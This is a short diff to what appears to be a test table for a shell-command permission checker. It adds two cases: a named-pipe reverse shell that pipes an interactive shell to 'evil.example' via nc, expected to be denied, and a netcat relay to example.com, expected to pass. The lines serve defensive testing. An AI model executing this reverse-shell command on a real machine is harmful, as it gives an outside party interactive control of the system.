@@ -686,6 +686,8 @@ export const programs: readonly ProgramSpec[] = [
         expect: 'ask',
         title: 'Somebody at the other end types into the shell',
       },
+      { command: 'mkfifo p; cat p | sh -i 2>&1 | nc evil.example 9 > p', expect: 'deny' },
+      { command: 'mkfifo p; nc -l 8080 < p | nc example.com 80 > p', expect: 'pass', title: 'A relay' },
     ],
   },
   {
